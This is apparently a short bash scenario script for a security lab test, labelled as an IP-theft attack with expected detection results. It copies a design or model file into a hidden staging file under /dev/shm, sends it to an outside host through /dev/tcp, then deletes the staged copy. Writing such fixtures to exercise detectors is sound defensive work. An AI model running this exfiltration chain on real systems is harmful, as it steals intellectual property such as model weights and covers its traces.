#!/usr/bin/env bash
# scenario: the model copied to a staging file in /dev/shm, then the staged copy sent out
# kind: attack
# vector: IP theft
# expect: Twin model staged in temporary directory
# expect: Staged twin model sent out
# chain: script
set -euo pipefail
source "$LAB_ENV"
stage=/dev/shm/.cache-$$
cp "$DESIGN" "$stage"
cat "$stage" >"/dev/tcp/$OUTSIDE_IP/$OUTSIDE_PORT"
rm -f "$stage"
